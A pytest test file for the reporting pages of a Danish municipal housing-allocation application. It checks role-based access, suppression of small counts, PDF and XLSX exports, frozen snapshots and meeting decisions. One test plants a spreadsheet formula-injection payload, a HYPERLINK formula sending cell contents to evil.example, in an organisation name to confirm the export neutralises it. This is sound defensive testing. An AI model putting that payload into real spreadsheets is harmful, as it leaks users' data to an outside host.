"""Pages, downloads, frozen snapshots and the meeting log: access, suppression, rendering."""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from anvis.audit.models import AuditEvent
from anvis.background.queue import run_pending
from anvis.reports.models import Decision, Meeting, ReportSnapshot
from anvis_core.reports import snapshot_hash

from .conftest import QUARTER, TODAY

pytestmark = pytest.mark.django_db

READ_URLS = [
    reverse("reports:dashboard"),
    reverse("reports:snapshot_list"),
    reverse("reports:meeting_list"),
]


@pytest.fixture(autouse=True)
def _today(monkeypatch: Any) -> None:
    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: TODAY)


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("sagsbehandler", 200),
        ("anvisningsleder", 200),
        ("administrator", 200),
        ("styregruppe", 200),
        ("boligorganisation", 403),
        ("org_b", 403),
    ],
)
def test_read_access_by_role(client_for: Any, role: str, status: int) -> None:
    client = client_for(role)
    for url in READ_URLS:
        assert client.get(url).status_code == status, url


def test_anonymous_is_sent_to_login(client: Any) -> None:
    response = client.get(reverse("reports:dashboard"))
    assert response.status_code == 302 and "/konto/login/" in response["Location"]


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("styregruppe", 403),
        ("sagsbehandler", 403),
        ("boligorganisation", 403),
        ("anvisningsleder", 200),
    ],
)
def test_only_lead_records_meetings(client_for: Any, dataset: Any, role: str, status: int) -> None:
    assert client_for(role).get(reverse("reports:meeting_create")).status_code == status


def test_steering_group_sees_suppressed_figures_and_municipality_exact(
    client_for: Any, dataset: Any
) -> None:
    url = reverse("reports:dashboard") + f"?kvartal={QUARTER}"
    steering = client_for("styregruppe").get(url)
    assert steering.status_code == 200
    body = steering.content.decode()
    assert "&lt;5" in body
    assert "Styregruppeudgave" in body
    # Exact: the provider-declined count (1) shows as a number for municipal roles.
    lead = client_for("anvisningsleder").get(url).context
    assert not lead["suppressed"]
    declines = next(t for s in lead["sections"] for t in s.tables if t.key == "declines_by_side")
    assert declines.rows[-1][2][0] == "1"
    st = next(
        t for s in steering.context["sections"] for t in s.tables if t.key == "declines_by_side"
    )
    assert st.rows[-1][2][0] == "<5"
    # The steering group cannot ask for the exact edition.
    again = client_for("styregruppe").get(url + "&udgave=")
    assert again.context["suppressed"]


def test_dashboard_has_charts_with_alt_text_and_tables(client_for: Any, dataset: Any) -> None:
    body = client_for("anvisningsleder").get(reverse("reports:dashboard")).content.decode()
    assert body.count('src="data:image/svg+xml;base64,') >= 10
    assert "Diagram: " in body
    assert "Kvartal" in body


def test_unknown_quarter_falls_back_to_the_running_one(client_for: Any, dataset: Any) -> None:
    response = client_for("anvisningsleder").get(reverse("reports:dashboard") + "?kvartal=xyz")
    assert response.status_code == 200
    assert str(response.context["quarter"]) == "2026-Q3"


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="poppler-utils (pdftoppm) missing")
def test_pdf_renders_and_its_first_page_converts_to_an_image(
    client_for: Any, dataset: Any, tmp_path: Path
) -> None:
    response = client_for("styregruppe").get(
        reverse("reports:report_download", args=["pdf"]) + f"?kvartal={QUARTER}"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "styregruppe" in response["Content-Disposition"]
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(response.content)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")],
        check=True,
    )
    pages = list(tmp_path.glob("page*.png"))
    assert len(pages) == 1
    from PIL import Image

    with Image.open(pages[0]) as image:
        assert image.width > 100 and image.height > 100
        extrema = image.convert("L").getextrema()
        assert extrema[0] < extrema[1]  # not a blank page


def test_xlsx_has_the_tables(client_for: Any, dataset: Any) -> None:
    from openpyxl import load_workbook

    response = client_for("anvisningsleder").get(
        reverse("reports:report_download", args=["xlsx"]) + f"?kvartal={QUARTER}"
    )
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert len(wb.sheetnames) > 15
    titles = [ws["A1"].value for ws in wb.worksheets]
    assert "Tilbud afvist: afvist af borgeren og afvist af kommunen" in titles


def test_xlsx_keeps_a_name_typed_as_a_formula_as_text(
    client_for: Any, dataset: Any, org_a: Any
) -> None:
    """An organisation's name comes from its own stock file; the workbook holds it as text."""
    from openpyxl import load_workbook

    org_a.name = '=HYPERLINK("http://evil.example/?x="&A3,"Alfa")'
    org_a.save()
    response = client_for("anvisningsleder").get(
        reverse("reports:report_download", args=["xlsx"]) + f"?kvartal={QUARTER}"
    )
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + org_a.name for c in cells)


def test_unknown_format_is_404(client_for: Any) -> None:
    url = reverse("reports:report_download", args=["doc"])
    assert client_for("anvisningsleder").get(url).status_code == 404


def test_freeze_a_report_and_show_it_again(
    client_for: Any, users: Any, dataset: Any, django_capture_on_commit_callbacks: Any
) -> None:
    lead = client_for("anvisningsleder")
    with django_capture_on_commit_callbacks(execute=True):
        response = lead.post(reverse("reports:snapshot_create"), {"kvartal": str(QUARTER)})
    frozen = ReportSnapshot.objects.get()
    assert response.status_code == 302
    # The PDF and workbook are rendered by the background task, not in the request.
    assert not frozen.is_rendered
    waiting = client_for("styregruppe").get(
        reverse("reports:snapshot_download", args=[frozen.pk, "pdf"])
    )
    assert waiting.status_code == 302
    run_pending()
    assert frozen.quarter == "2026-Q2"
    frozen.refresh_from_db()
    assert snapshot_hash(frozen.snapshot) == frozen.sha256
    assert bytes(frozen.pdf).startswith(b"%PDF")
    assert AuditEvent.objects.filter(action="reports.snapshot_create").count() == 1
    steering = client_for("styregruppe")
    page = steering.get(reverse("reports:snapshot_detail", args=[frozen.pk]))
    assert page.status_code == 200 and frozen.sha256 in page.content.decode()
    pdf = steering.get(reverse("reports:snapshot_download", args=[frozen.pk, "pdf"]))
    assert pdf.content == bytes(frozen.pdf)
    # The steering group gets the stored edition even when it asks for the exact one.
    exact = steering.get(
        reverse("reports:snapshot_download", args=[frozen.pk, "xlsx"]) + "?udgave=intern"
    )
    assert exact.content == bytes(frozen.xlsx)
    assert lead.get(
        reverse("reports:snapshot_download", args=[frozen.pk, "xlsx"]) + "?udgave=intern"
    ).content != bytes(frozen.xlsx)
    # Later changes to the data do not change the frozen figures.
    Decision.objects.all().delete()
    assert snapshot_hash(ReportSnapshot.objects.get().snapshot) == frozen.sha256


def test_steering_group_cannot_freeze(client_for: Any, dataset: Any) -> None:
    response = client_for("styregruppe").post(
        reverse("reports:snapshot_create"), {"kvartal": str(QUARTER)}
    )
    assert response.status_code == 403
    assert not ReportSnapshot.objects.exists()


def test_record_a_meeting_and_a_decision(client_for: Any, dataset: Any) -> None:
    lead = client_for("anvisningsleder")
    response = lead.post(
        reverse("reports:meeting_create"),
        {"forum": dataset.forum.pk, "held_on": "2026-05-12", "minutes": "Status på aftalen."},
    )
    meeting = Meeting.objects.get()
    assert response.status_code == 302
    response = lead.post(
        reverse("reports:decision_create", args=[meeting.pk]),
        {
            "text": "Flere 1-rumsboliger under 3.500 kr.",
            "follow_up": "Boligorganisationerne melder tilbage.",
            "responsible": "Anvisningschefen",
            "due_on": "2026-08-01",
            "status": "open",
        },
    )
    assert response.status_code == 302
    decision = Decision.objects.get()
    assert decision.responsible == "Anvisningschefen"
    assert AuditEvent.objects.filter(action__startswith="reports.").count() == 2
    # The decision shows in the quarter's report, for the steering group too.
    body = (
        client_for("styregruppe")
        .get(reverse("reports:dashboard") + f"?kvartal={QUARTER}")
        .content.decode()
    )
    assert "Flere 1-rumsboliger under 3.500 kr." in body
    assert "Anvisningschefen" in body
    lead.post(
        reverse("reports:decision_edit", args=[decision.pk]),
        {
            "text": decision.text,
            "follow_up": "",
            "responsible": "X",
            "due_on": "",
            "status": "done",
        },
    )
    decision.refresh_from_db()
    assert decision.status == "done"
    # A done decision from an earlier quarter is no longer carried into the next report.
    from anvis.reports.selectors import report_snapshot_gather
    from anvis_core.quotas import Quarter

    assert report_snapshot_gather(quarter=Quarter(2026, 3), today=TODAY)["meetings"] == []


def test_danish_validation_messages(client_for: Any, dataset: Any) -> None:
    lead = client_for("anvisningsleder")
    body = lead.post(reverse("reports:meeting_create"), {}).content.decode()
    assert "Vælg forummet." in body
    assert "Angiv mødets dato." in body
    meeting = Meeting.objects.create(forum=dataset.forum, held_on=TODAY)
    body = lead.post(
        reverse("reports:decision_create", args=[meeting.pk]), {"status": "open"}
    ).content.decode()
    assert "Skriv beslutningen." in body


def test_organisation_staff_cannot_see_a_frozen_report(
    client_for: Any, users: Any, dataset: Any
) -> None:
    from anvis.reports.services import report_snapshot_create

    frozen = report_snapshot_create(actor=users["anvisningsleder"], quarter=QUARTER, today=TODAY)
    org = client_for("boligorganisation")
    assert org.get(reverse("reports:snapshot_detail", args=[frozen.pk])).status_code == 403
    assert org.get(reverse("reports:snapshot_download", args=[frozen.pk, "pdf"])).status_code == 403


def test_control_characters_typed_into_a_decision_do_not_break_the_workbook(
    client_for: Any, dataset: Any, django_capture_on_commit_callbacks: Any
) -> None:
    """Regression (found by the bad-input property test): a form accepts control characters,
    which an XLSX cell cannot hold; freezing the report was a server error."""
    from openpyxl import load_workbook

    lead = client_for("anvisningsleder")
    lead.post(
        reverse("reports:meeting_create"),
        {"forum": dataset.forum.pk, "held_on": "2026-05-12", "minutes": "Referat\x0b"},
    )
    response = lead.post(
        reverse("reports:decision_create", args=[Meeting.objects.get().pk]),
        {"text": "Følg op\x01 på\x1f loftet", "responsible": "Chefen\x08", "status": "open"},
    )
    assert response.status_code == 302
    with django_capture_on_commit_callbacks(execute=True):
        response = lead.post(reverse("reports:snapshot_create"), {"kvartal": str(QUARTER)})
    assert response.status_code == 302
    run_pending()
    frozen = ReportSnapshot.objects.get()
    download = lead.get(reverse("reports:report_download", args=["xlsx"]) + f"?kvartal={QUARTER}")
    assert download.status_code == 200
    for data in (bytes(frozen.xlsx), download.content):
        cells = {
            cell
            for sheet in load_workbook(io.BytesIO(data)).worksheets
            for row in sheet.iter_rows(values_only=True)
            for cell in row
        }
        assert "Følg op på loftet" in cells and "Chefen" in cells


def test_the_cap_notes_do_not_tell_the_steering_group_small_counts(
    client_for: Any, dataset: Any
) -> None:
    """Department 101 has 4 placements against a cap of 3. Listing it as "<5 | over the cap"
    and counting it in "2 at or over the cap, 2 over" told the steering group it had exactly 4.
    Its edition lists and counts only units with 5 or more; the municipality's is exact."""
    url = reverse("reports:dashboard") + f"?kvartal={QUARTER}"
    steering = client_for("styregruppe").get(url)
    tables = {t.key: t for s in steering.context["sections"] for t in s.tables}
    for key in ("department_caps", "entrance_caps"):
        assert [r[2][0] for r in tables[key].rows] == ["9"]
        assert tables[key].note.startswith("1 af <5 enheder med anvisninger vist")
        assert "hverken vises eller tælles med her" in tables[key].note
        assert "på eller over loftet og <5 over det." in tables[key].note
        assert "2 på eller over loftet" not in tables[key].note
    assert "Alfavej 1" not in steering.content.decode()
    lead = client_for("anvisningsleder").get(url).context
    exact = {t.key: t for s in lead["sections"] for t in s.tables}
    assert [r[2][0] for r in exact["department_caps"].rows] == ["9", "4"]
    assert "2 på eller over loftet. 2 over loftet" in exact["department_caps"].note
    from openpyxl import load_workbook

    workbook = client_for("styregruppe").get(
        reverse("reports:report_download", args=["xlsx"]) + f"?kvartal={QUARTER}"
    )
    cells = [
        str(c.value)
        for ws in load_workbook(io.BytesIO(workbook.content)).worksheets
        for row in ws.iter_rows()
        for c in row
        if c.value is not None
    ]
    assert any("hverken vises eller tælles med her" in c for c in cells)
    assert not any("på eller over loftet." in c for c in cells)


def test_a_past_quarters_shelter_days_do_not_depend_on_the_quarter_chosen(
    client_for: Any, dataset: Any
) -> None:
    """A stay in the last quarter, recorded on a case opened in this one, counted in the last
    quarter's row whichever of the two quarters the dashboard shows (before, choosing the last
    quarter dropped it, because the case was opened after that quarter's end)."""
    import datetime as dt

    from anvis.cases.models import ShelterStay
    from anvis_core.quotas import Quarter

    from .conftest import _case, _citizen

    now = Quarter.of(timezone.localdate())
    last = now.previous()
    citizen = _citizen(500, dt.date(1980, 5, 5), "male")
    case = _case(500, citizen, now.start)
    ShelterStay.objects.create(
        case=case,
        shelter="Herberget",
        admitted_on=last.start + dt.timedelta(days=10),
        discharged_on=last.start + dt.timedelta(days=40),
    )

    def last_row(chosen: Quarter) -> list[str]:
        response = client_for("anvisningsleder").get(
            reverse("reports:dashboard") + f"?kvartal={chosen}"
        )
        shelter = next(
            t for s in response.context["sections"] for t in s.tables if t.key == "shelter"
        )
        label = next(
            r for r in shelter.rows if r[0][0].startswith(f"{last.number}. kvartal {last.year}")
        )
        return [text for text, _n in label]

    assert last_row(last) == last_row(now)
    assert last_row(last)[1] != "0"


@pytest.mark.parametrize("wanted", ["1999-Q1", "2099-Q4", "nonsense", ""])
def test_only_an_offered_quarter_can_be_frozen(client_for: Any, dataset: Any, wanted: str) -> None:
    """A quarter the page does not offer is refused with a Danish message naming the field;
    before, 1999-Q1 was frozen under today's agreement."""
    from anvis.reports.selectors import report_quarters

    response = client_for("anvisningsleder").post(
        reverse("reports:snapshot_create"), {"kvartal": wanted}, follow=True
    )
    assert response.status_code == 422
    offered = report_quarters(timezone.localdate())
    first, last = offered[-1], offered[0]
    assert (
        f"Kvartal: vælg et af de kvartaler, der tilbydes, fra {first.number}. kvartal "
        f"{first.year} til {last.number}. kvartal {last.year}." in response.content.decode()
    )
    assert not ReportSnapshot.objects.exists()
